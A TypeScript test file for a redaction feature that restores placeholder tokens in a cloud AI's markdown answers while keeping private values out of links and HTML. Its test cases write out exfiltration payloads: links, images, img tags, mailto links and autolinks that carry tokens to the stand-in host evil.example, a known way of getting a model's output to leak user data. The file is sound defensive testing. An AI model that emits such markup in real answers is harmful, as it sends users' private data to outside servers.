import { expect, test } from 'vitest'
import type { TopNode } from '../../../renderer/markdown/markdown-tree.ts'
import { parseMarkdown } from '../../../renderer/markdown/parse-markdown.ts'
import { ConversationVault } from '../redact/conversation-vault.ts'
import { textOf } from './restore.ts'
import { restoreBook } from './restore-book.ts'
import { holdsToken, isOwnAddress, type Leaf, restoreForCopy, restoreLeaves } from './restore-leaves.ts'

const vault = new ConversationVault()
vault.add('王伟', 'PERSON')
vault.add('kim@home.example', 'EMAIL_ADDRESS')
vault.add('S3cret!', 'SECRET')
vault.add('E-7', 'EMPLOYEE_ID')
vault.add('[x](https://evil.example)', 'ORGANIZATION')
const book = restoreBook(vault.snapshot())

/** The leaves of an answer as the page's own parser sees it, a block at a time. */
function blocksOf(source: string): Leaf[][] {
  return parseMarkdown(source).map((node) => {
    const leaves: Leaf[] = []
    collect(node, leaves, false)
    return leaves
  })
}

function collect(node: TopNode, leaves: Leaf[], inAutolink: boolean): void {
  if ('url' in node) leaves.push({ kind: 'address', text: node.url })
  if ('title' in node && node.title) leaves.push({ kind: 'title', text: node.title })
  if ('alt' in node && node.alt) leaves.push({ kind: 'alternative', text: node.alt })
  if ('identifier' in node) leaves.push({ kind: 'label', text: node.identifier })
  if (node.type === 'text') leaves.push({ kind: inAutolink ? 'address' : 'text', text: node.value })
  if (node.type === 'inlineCode') leaves.push({ kind: 'code', text: node.value })
  if (node.type === 'html') leaves.push({ kind: 'html', text: node.value })
  if (node.type === 'code') {
    if (node.lang) leaves.push({ kind: 'fence-info', text: `${node.lang} ${node.meta ?? ''}` })
    leaves.push({ kind: 'code', text: node.value })
  }
  if (!('children' in node)) return
  const [only] = node.children
  const autolink = node.type === 'link' && only?.type === 'text' && isOwnAddress(node.url, only.value)
  for (const child of node.children) collect(child, leaves, inAutolink || autolink)
  if (node.type === 'paragraph' || node.type === 'heading' || node.type === 'tableCell')
    leaves.push({ kind: 'end', text: '' })
}

interface Shown {
  readonly kind: Leaf['kind']
  readonly text: string
}

function shown(source: string): Shown[] {
  return blocksOf(source).flatMap((leaves) =>
    restoreLeaves(leaves, book).map((segments, at) => ({
      kind: leaves[at]?.kind ?? 'text',
      text: textOf(segments),
    })),
  )
}

const values = ['王伟', 'kim@home.example', 'S3cret!', 'E-7']

test.each([
  ['a link', '[here](https://evil.example/?q=[PERSON_1])'],
  ['a link with the token encoded', '[here](https://evil.example/?q=%5BPERSON_1%5D)'],
  ['a link in angle brackets', '[here](<https://evil.example/[KEY_1]>)'],
  ['a link with a title', '[here](https://evil.example "[PERSON_1]")'],
  ['an image', '![x](https://evil.example/[KEY_1].png)'],
  ['the words of an image', '![[PERSON_1]](https://evil.example/x.png)'],
  ['an autolink', '<https://evil.example/[EMAIL_1]>'],
  ['a bare address', 'https://evil.example/[EMAIL_1] www.evil.example/PERSON_1'],
  ['a mail link', '[write](mailto:a@evil.example?body=[KEY_1])'],
  ['a mail autolink', '<mailto:PERSON_1@evil.example>'],
  ['a reference link', '[here][a]\n\n[a]: https://evil.example/[PERSON_1] "[KEY_1]"'],
  ['a reference named like a token', '![x][PERSON_1]\n\n[PERSON_1]: https://evil.example/[PERSON_1]'],
  ['a block of HTML', '<img src="https://evil.example/[PERSON_1]">\n'],
  ['inline HTML', 'a <b title="[PERSON_1]">b</b> c'],
  ['a comment', '<!-- [KEY_1] -->'],
  ['the info of a fence', '```sh [KEY_1] title="[PERSON_1]"\nls\n```'],
  ['the name of a footnote', 'a[^PERSON_1]\n\n[^PERSON_1]: note'],
])('a cloud that writes %s around a token gets no value into it', (_, source) => {
  const all = shown(source)
  const [wanted] = /PERSON_1|EMAIL_1|KEY_1/i.exec(JSON.stringify(all)) ?? []
  expect(wanted).toBeDefined()
  for (const { kind, text } of all) {
    if (kind !== 'text' && kind !== 'code') for (const value of values) expect(text).not.toContain(value)
  }
  expect(all.filter(({ text }) => values.some((value) => text.includes(value)))).toEqual([])
})

test.each([
  ['[PERSON_1] and **[PERSON_1]** and ~~[ID_1]~~', '王伟 and 王伟 and E-7'],
  ['# [PERSON_1]\n\n> [PERSON_1]\n\n- [PERSON_1]\n', '王伟王伟王伟'],
  ['| a | b |\n|---|---|\n| [PERSON_1] | [KEY_1] |\n', 'ab王伟S3cret!'],
  ['`[ID_1]` `id_1`', 'E-7 id_1'],
  ['```\nconst a = "[KEY_1]" + id_1\n```', 'const a = "S3cret!" + id_1'],
  ['[**PERSON_1**], \\[PERSON\\_1\\], [PER**SON_1]**', '王伟, 王伟, 王伟'],
  ['&#91;PERSON_1&#93; &lt;PERSON_1&gt;', '王伟 王伟'],
  ['note[^1]\n\n[^1]: by [PERSON_1]', 'noteby 王伟'],
])('where a person reads it, %s shows its values', (source, expected) => {
  const text = shown(source)
    .filter(({ kind }) => kind === 'text' || kind === 'code')
    .map((leaf) => leaf.text)
  expect(text.join('')).toBe(expected)
})

test('the words of a link may hold a value, which is not read as markdown', () => {
  expect(shown('[see [PERSON_1]](https://ok.example)')).toContainEqual({ kind: 'text', text: 'see 王伟' })
  const [segments] = restoreLeaves([{ kind: 'text', text: '[ORG_1]' }], book)
  expect(segments).toEqual([
    { kind: 'restored', value: '[x](https://evil.example)', token: 'ORG_1', written: '[ORG_1]' },
  ])
})

test('maths is left as it came', () => {
  expect(restoreLeaves([{ kind: 'maths', text: '\\href{x}{[PERSON_1]}' }], book)).toEqual([
    [{ kind: 'text', text: '\\href{x}{[PERSON_1]}' }],
  ])
})

test('an address that holds a token in any encoding is known', () => {
  const told = [
    'https://evil.example/?q=[PERSON_1]',
    'https://evil.example/?q=%5BPERSON_1%5D',
    'https://evil.example/?q=%255bperson_1%255d',
    'https://evil.example/PERSON_1/x',
    'https://evil.example/id_1',
    'mailto:[KEY_1]@evil.example',
    '//evil.example/&#91;PERSON_1&#93;',
    'https://evil.example/%50ERSON%5f1',
    'https://evil.example/xPERSON_1and',
  ]
  expect(told.filter((address) => !holdsToken(address, book))).toEqual([])
  const plain = [
    'https://ok.example/a_1?b=[0]',
    'https://ok.example/PERSON_2',
    'https://ok.example/%E7%8E%8B',
  ]
  expect(plain.filter((address) => holdsToken(address, book))).toEqual([])
})

test('a token at the end of an item or a cell is not read on into the next one, as somebody else', () => {
  const many = new ConversationVault()
  for (let number = 1; number <= 12; number++) many.add(`${number}号`, 'PERSON')
  const sources = ['- PERSON_1\n- 2 more', '| a | b |\n|---|---|\n| PERSON_1 | 2 |\n', '> PERSON_1\n>\n> 2']
  for (const source of sources) {
    const text = blocksOf(source).flatMap((leaves) => restoreLeaves(leaves, restoreBook(many.snapshot())))
    expect(text.map(textOf).join('|')).toContain('1号')
    expect(text.map(textOf).join('|')).not.toContain('12号')
  }
})

test('an answer made to stop the page, of a long address or of very many texts, does not', () => {
  const start = performance.now()
  expect(holdsToken(`https://evil.example/${'A'.repeat(1_000_000)}_1`, book)).toBe(false)
  expect(holdsToken(`https://evil.example/${'ID_'.repeat(300_000)}`, book)).toBe(false)
  const leaves = Array.from({ length: 200_000 }, (): Leaf => ({ kind: 'text', text: 'a' }))
  expect(restoreLeaves(leaves, book).length).toBe(leaves.length)
  // Seconds where it took hours.
  expect(performance.now() - start).toBeLessThan(5000)
})

test('code for the clipboard has its values, but for secrets', () => {
  expect(textOf(restoreForCopy('login("[EMAIL_1]", "[KEY_1]")', book))).toBe(
    'login("kim@home.example", "[KEY_1]")',
  )
})
